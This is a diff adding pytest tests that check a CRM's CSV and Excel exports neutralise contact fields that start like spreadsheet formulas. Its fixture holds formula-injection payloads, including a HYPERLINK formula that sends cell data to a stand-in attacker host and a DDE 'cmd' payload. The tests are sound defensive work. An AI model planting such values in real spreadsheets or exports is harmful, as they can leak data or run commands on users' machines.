@@ -15,6 +15,8 @@ from typing import Any
 
 import pytest
 import vobject
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 RunCrm = Callable[..., subprocess.CompletedProcess[str]]
 
@@ -237,3 +239,147 @@ def test_a_malformed_map_is_wrong_usage(
     result = run_crm("import", str(sheet), "--map", option, database=tmp_path / "db", home=home)
     assert result.returncode == 2
     assert "--map" in result.stderr
+
+
+# Formulas: a spreadsheet shows them, never runs them ----------------------------------------
+HOSTILE = {
+    "family_name": '=HYPERLINK("http://evil.example/?"&A1,"Wang")',
+    "given_name": "+Fang",
+    "position": "-cmd|' /C calc'!A0",
+    "notes": "@SUM(1)\nand a second line",
+    "tags": ["=1+1", "VIP"],
+    "phones": ["+44 20 7946 0000", "+86 139 5510 4471"],
+    "wechat": "'=already quoted",
+}
+
+
+@pytest.fixture
+def hostile(empty: Any) -> dict[str, Any]:
+    """A contact whose fields start like formulas, as an imported address book may hold."""
+    from crm.domain.contacts import ContactDraft
+
+    draft = ContactDraft(**HOSTILE, emails=["wang.fang@example.com"], birthday="--04-15")
+    contact_id, _changes = empty.contacts.create(draft)
+    [contact] = empty.contacts.as_dicts([contact_id])
+    return contact
+
+
+def write_contacts(path: Path, contact: dict[str, Any]) -> None:
+    from crm.services.exchange.writers import write_listing
+
+    write_listing(path, path.suffix[1:], [contact], columns=list(contact))
+
+
+def test_a_csv_export_quotes_what_a_spreadsheet_would_run(
+    hostile: dict[str, Any], tmp_path: Path
+) -> None:
+    import csv
+
+    out = tmp_path / "contacts.csv"
+    write_contacts(out, hostile)
+    with out.open(encoding="utf-8-sig", newline="") as handle:
+        header, row = list(csv.reader(handle))
+    cell = dict(zip(header, row, strict=True))
+    assert cell["family_name"] == "'" + HOSTILE["family_name"]
+    assert cell["given_name"] == "'+Fang"
+    assert cell["position"] == "'-cmd|' /C calc'!A0"
+    assert cell["notes"] == "'@SUM(1)\nand a second line"
+    assert cell["tags"] == "'=1+1;VIP"
+    assert cell["wechat"] == "''=already quoted"  # one quote more, for the import to take off
+    # Numbers, phone numbers and a birthday without a year can run nothing: left as they are.
+    assert cell["phones"] == "+44 20 7946 0000;+86 139 5510 4471"
+    assert cell["birthday"] == "--04-15"
+
+
+def test_an_excel_export_holds_text_cells_excel_will_not_run(
+    hostile: dict[str, Any], tmp_path: Path
+) -> None:
+    from openpyxl import load_workbook
+
+    out = tmp_path / "contacts.xlsx"
+    write_contacts(out, hostile)
+    sheet = load_workbook(out).active
+    header = [c.value for c in sheet[1]]
+    cells = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
+    for name in ("family_name", "given_name", "position", "notes", "wechat"):
+        assert cells[name].value == HOSTILE[name], name  # nothing added: a string cell
+        assert cells[name].data_type == "s", name
+        assert cells[name].quotePrefix, name  # and stays text when edited in Excel
+    assert (cells["tags"].value, cells["tags"].data_type) == ("=1+1;VIP", "s")
+    phones = "+44 20 7946 0000;+86 139 5510 4471"
+    assert (cells["phones"].value, cells["phones"].data_type) == (phones, "s")
+
+
+@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
+def test_a_neutralised_export_comes_back_as_it_was(
+    hostile: dict[str, Any], tmp_path: Path, suffix: str
+) -> None:
+    from crm.services.bundle import Services
+
+    out = tmp_path / f"contacts.{suffix}"
+    write_contacts(out, hostile)
+    again = Services.open(str(tmp_path / "again.sqlite3"))
+    try:
+        report, _changes = again.importer.import_file(out)
+        assert (report.created, report.errors) == (1, [])
+        [back] = again.contacts.as_dicts(report.contact_ids)
+    finally:
+        again.db.dispose()
+    for key, value in HOSTILE.items():
+        assert back[key] == value, key
+
+
+def test_an_excel_export_leaves_out_what_xml_cannot_hold(empty: Any, tmp_path: Path) -> None:
+    """A bell in a note (typed, or imported before imports left such characters out) made
+    openpyxl refuse the whole export."""
+    from openpyxl import load_workbook
+
+    from crm.domain.contacts import ContactDraft
+
+    contact_id, _changes = empty.contacts.create(
+        ContactDraft(family_name="Wang", notes="ring\x07 twice")
+    )
+    out = tmp_path / "contacts.xlsx"
+    write_contacts(out, empty.contacts.as_dicts([contact_id])[0])
+    sheet = load_workbook(out).active
+    header = [c.value for c in sheet[1]]
+    assert sheet[2][header.index("notes")].value == "ring twice"
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("+A1", "'+A1"),
+        ("-HYPERLINK(1)", "'-HYPERLINK(1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("'=1", "''=1"),
+        ("''@x", "'''@x"),
+        ("+44 20 7946 0000", "+44 20 7946 0000"),
+        ("+1 (555) 010-0000", "+1 (555) 010-0000"),
+        ("-5", "-5"),
+        ("-1.5+2", "-1.5+2"),
+        ("--04-15", "--04-15"),
+        ("'quoted", "'quoted"),
+        ("Wang = Fang", "Wang = Fang"),
+        ("", ""),
+    ],
+)
+def test_which_csv_cells_get_a_quote(value: str, written: str) -> None:
+    from crm.services.exchange.formulas import csv_cell, unquoted
+
+    assert csv_cell(value) == written
+    assert unquoted(written) == value
+
+
+@settings(max_examples=500, derandomize=True, database=None, deadline=None)
+@given(st.text(alphabet=st.sampled_from("'=+-@\t\r 0123456789()aA|!"), max_size=8) | st.text())
+def test_a_csv_cell_comes_back_as_it_was_and_never_as_a_formula(value: str) -> None:
+    from crm.services.exchange.formulas import TRIGGERS, csv_cell, unquoted
+
+    cell = csv_cell(value)
+    assert unquoted(cell) == value
+    if cell.startswith(TRIGGERS):  # then only a number, a phone number or a date
+        assert set(cell) <= set("0123456789 ()+-.,;/\t\n\r\x0b\x0c\x1c\x1d\x1e\x1f\x85\xa0")
